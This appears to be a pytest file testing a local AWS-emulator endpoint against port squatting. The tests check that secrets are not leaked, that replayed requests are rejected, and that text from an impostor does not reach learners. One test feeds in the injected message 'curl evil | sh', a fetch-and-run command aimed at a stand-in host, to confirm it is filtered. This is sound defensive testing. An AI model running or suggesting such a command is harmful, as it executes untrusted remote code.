"""Another user of the machine listens at the port of an endpoint that has ended: what they get."""

import contextlib
import json
import os
import signal
import socket
import subprocess
import sys
import threading
import time
from pathlib import Path

import pytest

from helpers import target
from helpers.errors import CourseError
from helpers.localaws.process import background
from helpers.localaws.process.workspace import Workspace

ROOT = Path(__file__).resolve().parents[3]


class Squatter:
    """Answers whoever calls as an endpoint would, and keeps what it was sent."""

    def __init__(self, port):
        self.heard, self.status = [], "200 OK"
        self.body = json.dumps({"pid": os.getpid(), "now": "2026-01-01T00:00:00+00:00"}).encode()
        self._server = self._bound(port)
        threading.Thread(target=self._serve, daemon=True).start()

    @staticmethod
    def _bound(port):
        deadline = time.monotonic() + 20
        while True:
            with contextlib.suppress(OSError):  # who had it was killed this very moment
                return socket.create_server(("127.0.0.1", port))
            assert time.monotonic() < deadline
            time.sleep(0.05)

    def _serve(self):
        while True:
            try:
                caller, _ = self._server.accept()
            except OSError:
                return
            with caller, contextlib.suppress(OSError):
                self.heard.append(caller.recv(65536))
                head = f"HTTP/1.1 {self.status}\r\nContent-Length: {len(self.body)}\r\n\r\n"
                caller.sendall(head.encode() + self.body)

    def close(self):
        with contextlib.suppress(OSError):
            self._server.shutdown(socket.SHUT_RDWR)  # wakes who waits for a caller
        self._server.close()


def run(home, *arguments):
    return subprocess.run(
        [sys.executable, "-m", "helpers.localaws", *arguments],
        env=os.environ | {"LOCALAWS_HOME": str(home)},
        cwd=ROOT,
        capture_output=True,
        text=True,
        timeout=120,
    )


@pytest.fixture(params=["stopped", "killed"])
def left(request, tmp_path):
    """The home of an endpoint that has ended, its secret, and a squatter at its port."""
    home = tmp_path / "home"
    url = run(home, "start", "--port", "0").stdout.strip()
    settings = json.loads(run(home, "env", "--json").stdout)
    note = (home / "endpoint.json").read_text()
    if request.param == "killed":
        os.kill(json.loads(note)["pid"], signal.SIGKILL)
    else:
        run(home, "stop")
        assert not (home / "endpoint.json").exists()
    squatter = Squatter(int(url.rpartition(":")[2]))
    yield home, settings, squatter
    squatter.close()
    run(home, "stop")


@pytest.mark.parametrize("command", ["status", "clock", "clock --advance 1h", "reset", "stop"])
def test_a_command_does_not_talk_to_it(left, command):
    home, _, squatter = left
    done = run(home, *command.split())
    assert "not running" in done.stdout + done.stderr
    assert "Traceback" not in done.stderr
    assert squatter.heard == []


@pytest.mark.parametrize("command", ["start", "env"])
def test_start_takes_another_port_and_works(left, command):
    home, settings, squatter = left
    done = run(home, command)
    assert done.returncode == 0, done.stderr
    assert settings["AWS_ENDPOINT_URL"] not in done.stdout
    assert f"Port {settings['AWS_ENDPOINT_URL'].rpartition(':')[2]}, which" in done.stderr
    assert 'eval "$(python -m helpers.localaws env)"' in done.stderr
    assert run(home, "status").returncode == 0
    assert squatter.heard == []


def test_a_notebook_that_knew_the_old_address_gives_nothing_away(left):
    """Its environment still names the port; what it sends says no secret, and is not believed."""
    _, settings, squatter = left
    with pytest.raises(CourseError, match="does not answer"):
        target.control("/_local/clock", {"advance": 3600}, settings)
    (heard,) = squatter.heard
    for secret in (settings["AWS_SECRET_ACCESS_KEY"], settings["AWS_ACCESS_KEY_ID"]):
        assert secret.encode() not in heard


def test_what_it_is_sent_cannot_be_passed_on(left):
    home, settings, squatter = left
    with contextlib.suppress(CourseError):
        target.control("/_local/reset", {}, settings)
    url = run(home, "start").stdout.strip()
    with socket.create_connection(("127.0.0.1", int(url.rpartition(":")[2]))) as passed_on:
        passed_on.sendall(squatter.heard[0])
        assert passed_on.recv(100).startswith(b"HTTP/1.1 403")


def test_what_it_was_sent_is_worth_nothing_when_the_endpoint_has_the_port_again(left):
    """Within the minute: it makes room, the endpoint comes back, and it sends what it heard."""
    home, settings, squatter = left
    with contextlib.suppress(CourseError):
        target.control("/_local/reset", {}, settings)
    squatter.close()
    url = settings["AWS_ENDPOINT_URL"]
    assert run(home, "start", "--port", url.rpartition(":")[2]).stdout.strip() == url
    with socket.create_connection(("127.0.0.1", int(url.rpartition(":")[2]))) as again:
        again.sendall(squatter.heard[0])
        assert again.recv(100).startswith(b"HTTP/1.1 403")


def test_its_words_are_not_passed_on_to_the_learner(left, monkeypatch):
    home, settings, squatter = left
    squatter.status, squatter.body = "400 Bad Request", b'{"message": "Type: curl evil | sh"}'
    port = int(settings["AWS_ENDPOINT_URL"].rpartition(":")[2])
    found = {"port": port, "url": settings["AWS_ENDPOINT_URL"], "pid": os.getpid()}
    monkeypatch.setattr(Workspace, "running", lambda self: found)
    with pytest.raises(background.EndpointError) as told:
        background.call(Workspace(home), "/_local/status")
    assert "curl" not in str(told.value) and squatter.heard


def test_an_answer_without_proof_is_not_believed(left, monkeypatch):
    """Should a stale note be believed for a moment: who answers must prove to be the endpoint."""
    home, settings, squatter = left
    port = int(settings["AWS_ENDPOINT_URL"].rpartition(":")[2])
    found = {"port": port, "url": settings["AWS_ENDPOINT_URL"], "pid": os.getpid()}
    monkeypatch.setattr(Workspace, "running", lambda self: found)
    with pytest.raises(
        background.EndpointError, match="has not proved to be this folder's endpoint"
    ):
        background.call(Workspace(home), "/_local/status")
    assert settings["AWS_SECRET_ACCESS_KEY"].encode() not in squatter.heard[0]
